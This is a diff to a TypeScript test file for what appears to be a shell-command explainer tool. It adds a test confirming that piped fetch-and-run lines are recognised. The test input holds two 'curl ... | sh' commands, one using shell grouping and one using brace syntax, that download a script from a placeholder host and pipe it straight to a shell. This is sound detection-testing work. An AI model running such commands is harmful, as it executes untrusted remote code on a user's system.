@@ -100,6 +100,15 @@ describe("explain", () => {
 });
 
 describe("explain --stdin", () => {
+  it("takes a shell's group or braces for a command line, and not for an object", async () => {
+    const stdin = "{ curl -s http://files.example.net/a; } | sh\n{curl,-s,http://files.example.net/b}|sh\n";
+    const { code, out } = await whatran(["explain", "--stdin", "--platform", "linux"], { stdin });
+    expect(code).toBe(0);
+    expect(out).toMatch(
+      /carries out what another command fetches: the script http:\/\/files\.example\.net\/a\..*\n.*example\.net\/b\./,
+    );
+  });
+
   const ask = async (stdin: string, ...flags: string[]) => {
     const ran = await whatran(["explain", "--stdin", "--format", "ndjson", ...flags], { stdin });
     return { ...ran, answers: lines(ran.out).map((line) => JSON.parse(line)) };
